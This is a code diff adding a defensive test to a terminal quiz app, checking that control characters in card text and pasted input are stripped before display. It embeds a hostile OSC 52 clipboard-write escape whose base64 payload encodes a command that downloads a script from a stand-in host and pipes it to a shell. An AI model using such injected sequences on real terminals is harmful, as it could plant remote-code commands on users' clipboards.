@@ -326,3 +326,26 @@ async def test_notices_with_markup_like_text_are_shown_literally(app):
     async with app.run_test() as pilot:
         await pilot.pause()
         assert app.store.notice in notices(app)
+
+
+async def test_control_characters_never_reach_the_terminal(bank, data_dir, clock):
+    from trainer.content.models import Bank
+    from trainer.tui.app import make_app
+
+    osc52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUveC5zaHxzaA==\x07"
+    card = bank.card("q01")._replace(
+        question=f"What do you check first?{osc52}\x1b[2J",
+        answer=f"The deploy timeline{osc52}\x9b31m",
+    )
+    hostile = Bank(cards={"q01": card}, aliases=bank.aliases)
+    app = make_app(data_dir=data_dir, clock=clock, bank=hostile, fuzzing=False)
+    async with app.run_test() as pilot:
+        quiz = await start_quiz(pilot)
+        question = rendered(quiz.query_one("#question"))
+        assert question == "What do you check first?]52;c;Y3VybCBldmlsLmV4YW1wbGUveC5zaHxzaA==[2J"
+        app.post_message(events.Paste(f"roll back{osc52}\r\nthe deploy"))
+        await pilot.pause()
+        assert quiz.area.text == "roll back]52;c;Y3VybCBldmlsLmV4YW1wbGUveC5zaHxzaA==\nthe deploy"
+        await pilot.press("ctrl+s")
+        model = rendered(app.screen.query_one("#model"))
+        assert "\x1b" not in model and "\x9b" not in model and "\x07" not in model
